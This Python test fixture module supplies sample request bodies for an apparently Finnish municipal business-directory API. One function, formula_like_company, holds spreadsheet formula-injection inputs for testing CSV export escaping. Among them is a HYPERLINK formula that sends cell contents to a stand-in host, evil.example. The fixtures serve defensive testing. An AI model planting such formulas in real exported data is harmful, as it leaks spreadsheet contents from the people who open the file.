"""Valid request bodies that tests start from and vary."""


def municipality(code: str = "226", **changes) -> dict:
    return {"code": code, "name": {"fi": "Karstula"}, "population": 3774, "postal_code": "43500", **changes}


def spearhead(slug: str = "wood-bioeconomy", **changes) -> dict:
    return {"slug": slug, "title": {"fi": "Puu ja biotalous", "en": "Wood and bioeconomy"}, **changes}


def company(business_id: str = "0112038-9", **changes) -> dict:
    return {
        "business_id": business_id,
        "name": "Karstulan Puutuote Oy",
        "description": {"fi": "Sahatavaraa ja hirsitaloja.", "en": "Sawn timber and log houses."},
        "industry_code": "16100",
        "street_address": "Keskustie 1",
        "postal_code": "43500",
        "post_office": "KARSTULA",
        "latitude": 62.878,
        "longitude": 24.8,
        "website": "https://www.puutuote.example",
        "email": "info@puutuote.example",
        "phone": "014 459 1111",
        "size_class": "10-19",
        "founded_year": 1987,
        "tags": ["saha", "vienti"],
        "growth_seeking": True,
        "international": False,
        **changes,
    }


def formula_like_company(business_id: str = "0112038-9", **changes) -> dict:
    """Values that a spreadsheet would run as formulas (OWASP's CSV injection) and legitimate ones that look alike."""
    looks_like_formulas = {
        "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "description": {"fi": "-20 % alennus", "sv": "+SUM(1;2)", "en": "@SUM(A1:A9)"},
        "street_address": "\tKeskustie 1",
        "post_office": "\rKARSTULA",
        "phone": "+358 40 123 4567",
        "tags": ["-alennus", "@koti"],
    }
    return company(business_id, **{**looks_like_formulas, **changes})


def event(**changes) -> dict:
    return {
        "title": {"fi": "Sijoittumisstrategian työpaja"},
        "start_time": "2020-12-08T09:00:00+02:00",
        "end_time": "2020-12-08T12:00:00+02:00",
        "is_online": True,
        **changes,
    }
